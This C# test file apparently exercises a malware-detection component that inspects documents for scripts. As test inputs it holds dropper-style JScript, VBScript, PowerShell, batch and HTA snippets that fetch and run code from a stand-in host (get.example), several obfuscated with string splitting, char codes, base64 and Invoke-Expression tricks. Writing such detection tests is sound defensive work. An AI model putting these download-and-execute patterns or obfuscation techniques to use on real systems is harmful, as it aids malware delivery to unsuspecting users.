using System.Text;

namespace Bezel.Documents.Tests;

public class ScriptTests
{
    private static DocumentInspection Inspect(string text, string? name = null) => DocumentInspection.Inspect(name, null, Encoding.UTF8.GetBytes(text));
    private static string[] Details(DocumentInspection seen, FactKind kind) => [.. seen.Facts.Where(fact => fact.Kind == kind).Select(fact => fact.Detail)];

    [Fact]
    public void Sees_what_a_plain_script_starts_and_fetches()
    {
        DocumentInspection seen = Inspect("var x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', 'http://get.example/a.exe', false);\nvar s = new ActiveXObject('WScript.Shell');\ns.Run('a.exe');\n", "bill.js");
        seen.TrueType.ShouldBe(FileType.Script);
        Details(seen, FactKind.StartsProgram).ShouldContain("s.Run(\"a.exe\");");
        Details(seen, FactKind.FetchesFile)[0].ShouldStartWith("http://get.example/a.exe");
        seen.Has(FactKind.Obfuscated).ShouldBeFalse();
        seen.Links.ShouldBe(["http://get.example/a.exe"]);
    }

    [Theory]
    [InlineData("a.js", "var q='ht'+'tp://ge'+\"t.example\\x2fa\"; var w = this['WSc'+'ript']; var s = new ActiveXObject('WScr'+'ipt.Sh'+'ell');\neval('1');\ns.Run(q);\n")]
    [InlineData("a.js", "var s = new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108)); eval('1');\ns.Run('lleh.elpmaxe.teg//:ptth'.split('').reverse().join('') + '//:ptth');var u='http://get.example/a';\n")]
    [InlineData("a.js", "function f() { return 1; }\nvar p = 'WScrXQipt.SXQhell'.replace(/XQ/g, '');\nvar o = new ActiveXObject(p); var u = unescape('%68ttp://get.example/a');\n")]
    [InlineData("a.js", "var k = ['WScript.', 'Sh', 'ell']; var f = function () { return 1; };\nvar o = new ActiveXObject(k[0] + k[1] + k[2]); o.x(atob('aHR0cDovL2dldC5leGFtcGxlL2E='));\n")]
    [InlineData("a.vbs", "Dim s\nSet s = CreateObject(\"WScr\" & \"ipt.\" & Chr(83) & Chr(&H68) & \"ell\") ' the shell\nu = StrReverse(\"a/elpmaxe.teg//:ptth\")\ns.Run u\n")]
    [InlineData("a.vbs", "Dim n\nn = \"WScript.S\"\nn = n & \"hell\"\nSet s = CreateObject(n)\nu = Replace(\"hZttp://get.exZample/a\", \"Z\", \"\")\n")]
    [InlineData("a.ps1", "$a = 'Inv' + 'oke-Exp' + 'ression'\n& ($a) (('{1}{0}' -f '.example/a','http://get'))\n$env:x = 1\n")]
    [InlineData("a.ps1", "& ([char]73+[char]69+[char]88) 'x'; $u = -join ([char[]](104,116,116,112,58,47,47,103,101,116,46,101,120,97,109,112,108,101,47,97))\n$env:x = $u\n")]
    [InlineData("a.ps1", "I`E`X (New-Object Net.Web`Client).DownloadString('ht'+'tp://get.example/a')\n$env:x = 1\n")]
    [InlineData("a.ps1", "$b = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('SW52b2tlLUV4cHJlc3Npb24gKGh0dHA6Ly9nZXQuZXhhbXBsZS9hKQ=='))\n$env:x = 1\n")]
    [InlineData("a.bat", "@echo off\nset a=powe\nset \"b=rshell\"\n%a%%b% -c \"x\"\nst^art ht^tp://get.example/a\n")]
    [InlineData("a.cmd", "@echo off\r\nset q=zlhtshslercp\r\n%ComSpec:~-7,3% /c p^o^w^e^r^s^h^e^l^l -nop curl http://get.example/a\r\n")]
    public void Puts_pieces_together(string name, string text)
    {
        DocumentInspection seen = Inspect(text, name);
        seen.TrueType.ShouldBe(FileType.Script);
        seen.Has(FactKind.StartsProgram).ShouldBeTrue();
        seen.Links.ShouldContain("http://get.example/a");
        seen.Has(FactKind.Obfuscated).ShouldBeTrue();
    }

    // The encoded line is the one that documentation of the encoding shows everywhere: MsgBox "Hello".
    [Fact]
    public void Decodes_what_the_script_encoder_made()
    {
        DocumentInspection seen = Inspect("#@~^DgAAAA==\\ko$K6,JC\u007FV^GJqAQAAA==^#~@");
        seen.TrueType.ShouldBe(FileType.Script);
        Details(seen, FactKind.Obfuscated).ShouldBe(["encoded with the Script Encoder"]);
        string encoded = ScriptSamples.Encoded("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"http://get.example/<a>\"");
        DocumentInspection longer = Inspect(encoded, "a.vbe");
        Details(longer, FactKind.StartsProgram).ShouldContain("s.Run \"http://get.example/<a>\"");
        longer.Links.ShouldBe(["http://get.example/"]);
    }

    [Fact]
    public void Carries_a_file_that_is_a_string_of_the_script()
    {
        byte[] zip = SampleFiles.Zip(("a.txt", "hello there"));
        DocumentInspection seen = Inspect("var a = new ActiveXObject('x');\nvar d = '" + Convert.ToBase64String(zip) + "';\neval(d);\n", "a.js");
        seen.Has(FactKind.EmbeddedFile).ShouldBeTrue();
        seen.Text.ShouldContain("hello there");
        string pieces = string.Join("\nd += ", Convert.ToBase64String(zip).Chunk(30).Select(piece => "'" + new string(piece) + "';"));
        Inspect("var a = new ActiveXObject('x');\nvar d = '';\nd += " + pieces + "\neval(d);\n", "a.js").Text.ShouldContain("hello there");
    }

    [Fact]
    public void Reads_a_script_hidden_in_base64_in_a_script()
    {
        string inner = "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc.exe');\neval('1');\nfunction f(){return 1;}\n";
        DocumentInspection seen = Inspect("var b = '" + Convert.ToBase64String(Encoding.UTF8.GetBytes(inner)) + "';\neval(decode(b));\nvar c = new ActiveXObject('x');\n", "a.js");
        Details(seen, FactKind.StartsProgram).ShouldContain("s.Run(\"calc.exe\");");
        seen.Has(FactKind.Obfuscated).ShouldBeTrue();
    }

    [Fact]
    public void Reads_the_scripts_of_markup()
    {
        string hta = "<html><head><HTA:APPLICATION ID=\"a\"/><script language=\"VBScript\">\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\"\n</script></head><body>Your bill</body></html>";
        DocumentInspection seen = Inspect(hta, "bill.hta");
        seen.TrueType.ShouldBe(FileType.Script);
        Details(seen, FactKind.StartsProgram).ShouldContain("s.Run \"calc.exe\"");
        string wsf = "<job id=\"x\"><script language=\"JScript\" src=\"http://get.example/a.js\"/><script language=\"JScript\"><![CDATA[ new ActiveXObject('WScript.Shell').Run('calc'); ]]></script></job>";
        seen = Inspect(wsf, "bill.wsf");
        Details(seen, FactKind.ExternalContent).ShouldBe(["http://get.example/a.js"]);
        seen.Has(FactKind.StartsProgram).ShouldBeTrue();
    }

    [Theory]
    [InlineData("// WScript.Shell is not used here\nvar total = 0;\nfunction add(n) { total += n; }\nadd(2);\n", "sum.js")]
    [InlineData("' CreateObject(\"WScript.Shell\").Run is what we do not do\nDim total\ntotal = 2 + 3\nMsgBox total\n", "sum.vbs")]
    [InlineData("# powershell: Invoke-Expression is not used\n$total = 2 + 3\nWrite-Host $total\n", "sum.ps1")]
    [InlineData("@echo off\nrem powershell is not used\necho done\n", "sum.bat")]
    public void Ignores_comments(string text, string name)
    {
        DocumentInspection seen = Inspect(text, name);
        seen.TrueType.ShouldBe(FileType.Script);
        seen.Facts.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("# Stock tool\n\nRun `npm install` and then:\n\n```\ncurl http://localhost:8080/health\n```\n\nThe tool lists rings by size.\n", "README.md")]
    [InlineData("name,price\nsignet ring,1200\nbracelet \"Run\",300\n", "stock.csv")]
    [InlineData("2026-11-22 10:00:01 INFO started powershell session 12\n2026-11-22 10:00:09 INFO done\n", "app.log")]
    [InlineData("Anna: can you try\nAnna: var x = 1;\nBen: it says undefined\nAnna: ok, later\n", "chat.txt")]
    public void Leaves_prose_about_code_alone(string text, string name)
    {
        DocumentInspection seen = Inspect(text, name);
        seen.TrueType.ShouldBe(FileType.PlainText);
        seen.Facts.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("var s = new ActiveXObject('WScript.Shell'); s.Run(String.fromCharCode(99,97,108,99));")]
    [InlineData("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n")]
    [InlineData("powershell -enc aQBlAHgAIAAxADEAMQAxADEAMQA=; $env:x")]
    public void Knows_a_script_by_what_it_calls_whatever_its_name(string text)
    {
        Inspect(text).TrueType.ShouldBe(FileType.Script);
    }

    [Theory]
    [InlineData("Dear Anna, the line was: Set s = CreateObject(\"WScript.Shell\") and it is gone now.\n")]
    [InlineData("Anna wrote that powershell -enc was in the log of the till. Nothing was lost.\n")]
    public void Takes_a_letter_that_quotes_a_call_for_a_letter(string text)
    {
        Inspect(text).TrueType.ShouldBe(FileType.PlainText);
    }

    [Fact]
    public void Says_when_scripts_lie_deeper_than_is_read()
    {
        string script = "iex 1";
        for (int i = 0; i < 8; i++)
            script = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
        Inspect(script, "a.ps1").CouldNotCheck.ShouldNotBeNull();
        Inspect("powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes("Write-Host 12345")), "a.ps1").CouldNotCheck.ShouldBeNull();
    }

    [Theory]
    [InlineData("var a = '';\n", "a += 'x';\n")]
    [InlineData("var a = 'x';\n", "a = a + a;\n")]
    [InlineData("var a = new ActiveXObject('x');", "(((((((((((((((((((((((((((((((")]
    [InlineData("var a = new ActiveXObject('x');", "[[['a',")]
    [InlineData("var a = new ActiveXObject('x');", "'a'.split('').join('")]
    public void Bounds_scripts_that_grow(string start, string again)
    {
        DocumentInspection seen = Inspect(start + string.Concat(Enumerable.Repeat(again, 20_000)), "a.js");
        seen.Defects.Where(d => d.Kind == DocumentDefectKind.ReaderFailed).ShouldBeEmpty();
    }
}
